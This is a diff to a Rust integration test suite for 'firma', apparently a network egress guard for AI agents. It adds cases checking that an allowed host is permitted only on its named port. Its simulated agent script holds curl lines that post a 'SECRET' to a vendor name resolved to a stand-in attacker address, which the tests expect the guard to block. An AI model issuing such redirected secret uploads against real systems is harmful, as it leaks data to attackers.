@@ -128,7 +128,7 @@ impl World {
 
 /// The agent: each attempt prints `CASE <name> <http status> <curl exit>`. `reject` is a CA
 /// file that did not sign the Firma leaf (the client rejects the certificate with it).
-fn agent_script(reject: &Path) -> String {
+fn agent_script(reject: &Path, extra: &str) -> String {
     let reject = reject.display();
     format!(
         r#"
@@ -142,6 +142,7 @@ c tls_443_before -k --resolve {VENDOR}:443:{ATTACKER} -d SECRET https://{VENDOR}
 c rejected --cacert '{reject}' --resolve {VENDOR}:443:{ATTACKER} -d SECRET https://{VENDOR}/upload
 c tls_443_after -k --resolve {VENDOR}:443:{ATTACKER} -d SECRET https://{VENDOR}/upload
 c legit_vendor_after -d ok https://{VENDOR}/v1/send
+{extra}
 "#
     )
 }
@@ -303,13 +304,30 @@ fn check_run(w: &World, out: &Output, audit: &Path, fallback: bool, log: &str) {
         && e["conn"]["original_dst"] == format!("{DST_V4}:443")));
 }
 
-/// (a) `firma run --user nobody` with the default configuration.
+/// `--allow-host` with a port: `api.example.org:8443` is allowed, another port of it is not.
+const PORTS_SCRIPT: &str = r#"
+c port_allowed https://api.example.org:8443/x
+c port_other -k --resolve api.example.org:9443:10.77.0.2 https://api.example.org:9443/x
+"#;
+
+/// (a) `firma run --user nobody` with the default configuration (plus one `--allow-host
+/// HOST:PORT` for the port cases).
 #[test]
 fn firma_run_binds_the_destination_to_the_decided_name() {
     if !in_fresh_netns("firma_run_binds_the_destination_to_the_decided_name") {
         return;
     }
     let w = World::new();
+    let other_dir = w.path("other");
+    std::fs::create_dir_all(&other_dir).unwrap();
+    let other = Upstream::start_at(
+        &other_dir,
+        &["api.example.org"],
+        format!("{DST_V4}:8443").parse().unwrap(),
+    );
+    let mut hosts = std::fs::read_to_string(&w.hosts).unwrap();
+    hosts.push_str(&format!("{DST_V4} api.example.org\n"));
+    std::fs::write(&w.hosts, hosts).unwrap();
     let audit = w.path("audit.jsonl");
     let out = Command::new("unshare")
         .args(["--mount", "--propagation", "private", "--", "sh", "-c"])
@@ -324,10 +342,13 @@ fn firma_run_binds_the_destination_to_the_decided_name() {
         .arg(w.path("state"))
         .arg("--upstream-ca")
         .arg(&w.up.ca_path)
+        .arg("--upstream-ca")
+        .arg(&other.ca_path)
         .arg("--audit")
         .arg(&audit)
+        .args(["--allow-host", "api.example.org:8443"])
         .args(["--user", "nobody", "--", "sh", "-c"])
-        .arg(agent_script(&w.up.ca_path))
+        .arg(agent_script(&w.up.ca_path, PORTS_SCRIPT))
         .env("NO_COLOR", "1")
         .env_remove("RUST_LOG")
         .env_remove("SUDO_UID")
@@ -345,6 +366,31 @@ fn firma_run_binds_the_destination_to_the_decided_name() {
         w.up.count(),
         3,
         "openai, vendor, vendor after the rejection"
+    );
+    // The port named with --allow-host works, another port of the same name is denied.
+    let got = cases(&text(&out.stdout));
+    assert_eq!(
+        got.get("port_allowed").map(|c| c.0),
+        Some(200),
+        "{}",
+        show(&out)
+    );
+    assert_eq!(
+        got.get("port_other").map(|c| c.0),
+        Some(403),
+        "{}",
+        show(&out)
+    );
+    assert_eq!(other.count(), 1);
+    let events = decisions(&audit);
+    assert!(
+        events
+            .iter()
+            .any(|e| e["decision"]["reason"] == "DestinationMismatch"
+                && e["conn"]["original_dst"] == format!("{DST_V4}:9443")
+                && e["envelope"]["intent"]["destination"]["allowed_ports"]
+                    == serde_json::json!([8443])),
+        "{events:#?}"
     );
 }
 
@@ -409,7 +455,7 @@ impl Transparent {
                 self.cg.dir.display()
             ))
             .arg("sh")
-            .arg(agent_script(&w.up.ca_path))
+            .arg(agent_script(&w.up.ca_path, ""))
             .env("SSL_CERT_FILE", self.d.ca_cert())
             .env("CURL_CA_BUNDLE", self.d.ca_cert());
         for v in PROXY_VARS.iter().chain(&["NO_PROXY", "no_proxy"]) {
